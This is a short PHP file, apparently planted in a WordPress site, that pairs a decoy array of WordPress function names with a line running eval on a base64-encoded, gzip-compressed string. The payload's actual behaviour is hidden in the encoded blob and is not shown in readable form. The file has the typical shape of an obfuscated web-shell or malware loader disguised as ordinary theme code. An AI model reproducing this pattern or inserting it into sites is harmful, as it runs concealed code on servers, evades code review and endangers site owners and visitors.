<?php
$names = ['get_theme_data', 'wp_setcookie'];
eval(gzinflate(base64_decode('y0zTyCwuTi3RUIkPcg0MdQ0OiVZKVorV1KwuriwuSc1FF7euTcvMSY1PTy2JT87PK0nNKynWUMooKSkottLXLy/QTc7I1svMK0vMyUzRt8+wVdIDqszILy7JS8xN1dDUtAYA')));
